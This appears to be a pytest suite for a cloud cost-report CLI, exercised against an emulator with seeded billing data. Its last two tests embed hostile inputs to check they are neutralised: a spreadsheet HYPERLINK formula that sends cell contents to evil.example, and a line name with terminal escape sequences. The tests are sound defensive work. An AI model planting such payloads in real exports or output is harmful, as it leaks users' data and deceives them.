"""`candlefish report costs` against the emulator with seeded Cost Explorer answers (today: 2026-11-15)."""

from __future__ import annotations

import csv
import io

import pytest

from candlefish_ops.local.moto.extensions.report_data import cost_results
from candlefish_ops.local.seed.reports import post_cost_results

TODAY = "2026-11-15"  # as frozen by the reports_env fixture

# The request the report must make for the default run on 2026-11-15 (month to date + last month).
FILTER = {"Tags": {"Key": "Environment", "Values": ["production"], "MatchOptions": ["EQUALS"]}}
SERVICE_REQUEST = {"TimePeriod": {"Start": "2026-10-01", "End": TODAY}, "Granularity": "MONTHLY",
                   "Filter": FILTER, "Metrics": ["UnblendedCost"],
                   "GroupBy": [{"Type": "DIMENSION", "Key": "SERVICE"}, {"Type": "DIMENSION", "Key": "USAGE_TYPE"}]}

# 14 full days of November: month-end = to-date x 30/14.
BILL = {
    "2026-10": {("Amazon CloudFront", "US-DataTransfer-Out-Bytes"): 40.0,
                ("Amazon Simple Storage Service", "TimedStorage-ByteHrs"): 20.0,
                ("AWS Lambda", "USE1-Lambda-Edge-Request"): 10.0,
                ("AWS Lambda", "USE1-Lambda-GB-Second"): 5.0,
                ("Amazon Elastic Container Service for Kubernetes", "USE1-AmazonEKS-Hours:perCluster"): 72.0},
    "2026-11": {("Amazon CloudFront", "US-DataTransfer-Out-Bytes"): 14.0,        # -> 30.00: 60 % under
                ("Amazon Simple Storage Service", "TimedStorage-ByteHrs"): 9.0,    # -> 19.29: 84 % near
                ("AWS Lambda", "USE1-Lambda-Edge-Request"): 3.5,                   # -> 7.50: Lambda@Edge under
                ("AWS Lambda", "USE1-Lambda-GB-Second"): 2.8,                      # -> 6.00: AWS Lambda 75 % under
                ("Amazon Elastic Container Service for Kubernetes", "USE1-AmazonEKS-Hours:perCluster"): 28.0},
}                                                                                  # EKS -> 60.00: 83 % near


def seed(aws, bill=BILL, request=SERVICE_REQUEST, pages=1):
    post_cost_results(aws.endpoint, cost_results(request, bill, pages))


def run_costs(cli, config_dir, *args):
    return cli("report", "costs", "production", "--config-dir", config_dir, *args)


def line(document, name):
    return next(item for item in document["lines"] if item["name"] == name)


def test_budgets_under_near_and_month_over_month(aws, cli, config_dir, reports_env, deployed):
    seed(aws)
    result = run_costs(cli, config_dir, "--output", "json")
    assert result.exit_code == 0, result.stderr
    report = result.json()
    assert report["months"] == ["2026-10", "2026-11"] and report["current_month"] is True
    cloudfront = line(report, "Amazon CloudFront")
    assert (cloudfront["last_month"], cloudfront["this_month"], cloudfront["month_end_estimate"]) == (40.0, 14.0, 30.0)
    assert cloudfront["change"] == -10.0 and cloudfront["change_percent"] == -25.0
    assert (cloudfront["budget"], cloudfront["status"]) == (50.0, "under")
    assert line(report, "Amazon Simple Storage Service")["status"] == "near"
    edge, plain = line(report, "Lambda@Edge"), line(report, "AWS Lambda")
    assert (edge["this_month"], edge["budget"]) == (3.5, 15.0)        # carved out of AWS Lambda by usage type
    assert (plain["this_month"], plain["budget"]) == (2.8, 8.0)
    assert line(report, "Amazon Route 53")["this_month"] == 0.0       # a budget line with no cost still shows
    assert report["total"]["this_month"] == 57.3 and report["total"]["budget"] == 254.0
    assert report["month_end"]["basis"] == "forecast"                 # the emulator's GetCostForecast
    assert report["month_end"]["amount"] == pytest.approx(57.3 * 30 / 14, abs=0.01)
    assert report["movers"][0] == "Amazon Elastic Container Service for Kubernetes"
    assert report["requests"] == 2 and report["request_cost_usd"] == 0.02 and report["over_budget"] is False
    assert report["data"] == "emulated"                               # the seeded answers carry the marker


def test_over_budget_exits_3_and_says_which(aws, cli, config_dir, reports_env, deployed):
    bill = {month: dict(amounts) for month, amounts in BILL.items()}
    bill["2026-11"][("Amazon Elastic Container Service for Kubernetes", "USE1-AmazonEKS-Hours:perCluster")] = 40.0
    seed(aws, bill)
    result = run_costs(cli, config_dir, "--output", "json")
    assert result.exit_code == 3
    eks = line(result.json(), "Amazon Elastic Container Service for Kubernetes")
    assert eks["status"] == "over" and eks["month_end_estimate"] == pytest.approx(85.71)
    assert "over budget: Amazon Elastic Container Service for Kubernetes" in result.stderr


def test_pagination_follows_next_page_token_across_pages(aws, cli, config_dir, reports_env, deployed):
    seed(aws, pages=3)
    result = run_costs(cli, config_dir, "--output", "json")
    assert result.exit_code == 0, result.stderr
    report = result.json()
    assert report["pages"] == 3 and report["requests"] == 4           # 3 pages + the forecast
    assert report["total"]["this_month"] == 57.3 and report["total"]["last_month"] == 147.0


def test_cache_answers_second_run_with_no_request(aws, cli, config_dir, reports_env, deployed):
    seed(aws)
    first = run_costs(cli, config_dir, "--output", "json")
    second = run_costs(cli, config_dir, "--output", "json")
    assert first.json()["requests"] == 2 and second.json()["requests"] == 0
    assert second.json()["cached"] is True and "from the cache" in second.stderr
    assert second.json()["lines"] == first.json()["lines"]
    assert list((reports_env / "cost-explorer").glob("*.json"))


def test_refresh_bypasses_the_cache(aws, cli, config_dir, reports_env, deployed):
    seed(aws)
    run_costs(cli, config_dir, "--output", "json")
    again = run_costs(cli, config_dir, "--output", "json", "--refresh")
    assert again.json()["requests"] == 2 and again.json()["cached"] is False


def test_json_csv_and_table_carry_the_same_figures(aws, cli, config_dir, reports_env, deployed):
    seed(aws)
    document = run_costs(cli, config_dir, "--output", "json").json()
    rows = list(csv.DictReader(io.StringIO(run_costs(cli, config_dir, "--output", "csv").stdout)))
    table = run_costs(cli, config_dir).stdout
    assert [row["line"] for row in rows] == [item["name"] for item in document["lines"]] + ["Total"]
    for item, row in zip([*document["lines"], document["total"]], rows):
        assert float(row["2026-11"]) == item["this_month"] and float(row["2026-10"]) == item["last_month"]
        assert float(row["month_end_estimate"]) == item["month_end_estimate"] and row["status"] == item["status"]
        table_line = next(text for text in table.splitlines() if f" {item['name'][:20]}" in text)
        assert f"{item['this_month']:,.2f}" in table_line and item["status"] in table_line
    assert rows[-1]["note"] == document["month_end"]["detail"]
    assert [row["line"] for row in rows if row["mover_rank"]] == document["movers"]
    assert "EMULATED DATA" in table and "biggest movers" in table


def test_closed_month_needs_no_forecast(aws, cli, config_dir, reports_env, deployed):
    request = {**SERVICE_REQUEST, "TimePeriod": {"Start": "2026-09-01", "End": "2026-11-01"}}
    seed(aws, {"2026-09": BILL["2026-10"], "2026-10": BILL["2026-10"]}, request)
    result = run_costs(cli, config_dir, "--month", "2026-10", "--output", "json")
    report = result.json()
    assert report["month_end"]["basis"] == "actual" and report["requests"] == 1
    assert report["total"]["month_end_estimate"] == 147.0 and report["total"]["change"] == 0.0


def test_forecast_unavailable_falls_back_to_stated_projection(aws, cli, config_dir, reports_env, deployed):
    # a first month of costs: Cost Explorer (and the emulator) cannot forecast without history
    seed(aws, {"2026-11": BILL["2026-11"]})
    result = run_costs(cli, config_dir, "--output", "json")
    assert result.exit_code == 0, result.stderr
    report = result.json()
    assert report["month_end"]["basis"] == "projection"
    assert report["month_end"]["amount"] == pytest.approx(57.3 / 14 * 30, abs=0.01)
    assert "daily run rate" in report["month_end"]["detail"]
    assert "DataUnavailableException" in report["month_end"]["detail"]
    assert report["requests"] == 2  # the refused forecast was still a (billed) request


def test_group_by_usage_type_and_tag(aws, cli, config_dir, reports_env, deployed):
    request = {**SERVICE_REQUEST, "GroupBy": [{"Type": "TAG", "Key": "Team"}]}
    seed(aws, {"2026-10": {("Team$edge",): 50.0, ("Team$",): 5.0}, "2026-11": {("Team$edge",): 21.0}}, request)
    report = run_costs(cli, config_dir, "--group-by", "tag:Team", "--output", "json").json()
    assert report["group_by"] == "tag:Team"
    assert [(item["name"], item["budget"]) for item in report["lines"]] == [("edge", None), ("(no Team tag)", None)]
    assert report["total"]["budget"] == 254.0


def test_group_by_usage_type(aws, cli, config_dir, reports_env, deployed):
    request = {**SERVICE_REQUEST, "GroupBy": [{"Type": "DIMENSION", "Key": "USAGE_TYPE"}]}
    seed(aws, {"2026-10": {("USE1-Requests-Tier1",): 3.0}, "2026-11": {("USE1-Requests-Tier1",): 2.8,
                                                                   ("US-DataTransfer-Out-Bytes",): 7.0}}, request)
    report = run_costs(cli, config_dir, "--group-by", "usage-type", "--output", "json").json()
    assert [(item["name"], item["this_month"], item["month_end_estimate"]) for item in report["lines"]] == [
        ("US-DataTransfer-Out-Bytes", 7.0, 15.0), ("USE1-Requests-Tier1", 2.8, 6.0)]
    assert report["movers"] == ["US-DataTransfer-Out-Bytes", "USE1-Requests-Tier1"]


def test_last_n_months_one_column_each(aws, cli, config_dir, reports_env, deployed):
    request = {**SERVICE_REQUEST, "TimePeriod": {"Start": "2026-08-01", "End": TODAY}}
    cloudfront = ("Amazon CloudFront", "US-DataTransfer-Out-Bytes")
    seed(aws, {"2026-08": {cloudfront: 30.0}, "2026-09": {cloudfront: 35.0}, "2026-10": {cloudfront: 40.0},
               "2026-11": {cloudfront: 14.0}}, request)
    result = run_costs(cli, config_dir, "--last", "4", "--output", "json")
    report = result.json()
    assert report["months"] == ["2026-08", "2026-09", "2026-10", "2026-11"]
    assert line(report, "Amazon CloudFront")["months"] == {"2026-08": 30.0, "2026-09": 35.0, "2026-10": 40.0,
                                                           "2026-11": 14.0}
    table = run_costs(cli, config_dir, "--last", "4").stdout
    assert "2026-08" in table and "2026-11 to date" in table


@pytest.mark.parametrize("args, message", [
    (("--month", "2026/10"), "use YYYY-MM"),
    (("--month", "2026-13"), "use YYYY-MM"),
    (("--month", "2026-12"), "in the future"),
    (("--month", "2025-11"), "13 months"),
    (("--group-by", "region"), "--group-by 'region'"),
    (("--last", "20"), "between 2 and 13"),
    (("--month", "2026-10", "--last", "3"), "not both"),
])
def test_bad_input_is_one_clear_line_and_no_request(aws, cli, config_dir, reports_env, args, message):
    result = run_costs(cli, config_dir, *args)
    assert result.exit_code == 1
    assert message in result.stderr and result.stderr.count("\n") == 1
    assert not reports_env.exists()


def test_unknown_environment(aws, cli, config_dir, reports_env):
    result = cli("report", "costs", "staging", "--config-dir", config_dir)
    assert result.exit_code == 1 and "no such environment file" in result.stderr
    assert "production" in result.stderr


def test_csv_cells_cannot_start_a_spreadsheet_formula(aws, cli, config_dir, reports_env, deployed):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    bill = {month: {**amounts, (formula, "USE1-Requests"): 1.0} for month, amounts in BILL.items()}
    seed(aws, bill)
    result = run_costs(cli, config_dir, "--output", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert "'" + formula in [row["line"] for row in rows]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
    cloudfront = next(row for row in rows if row["line"] == "Amazon CloudFront")
    assert cloudfront["change"] == "-10.00"  # a plain negative number stays a number



def test_the_table_shows_control_characters_in_line_names_as_escapes(aws, cli, config_dir, reports_env, deployed,
                                                                     monkeypatch):
    monkeypatch.setenv("COLUMNS", "300")
    hostile = "\x1b]0;owned\x07[link=http://evil.example]Svc[/link]"
    seed(aws, {month: {**amounts, (hostile, "USE1-Requests"): 1.0} for month, amounts in BILL.items()})
    result = run_costs(cli, config_dir)
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout
    assert "\\x1b]0;owned\\x07[link=http://evil.example]Svc[/link]" in result.stdout
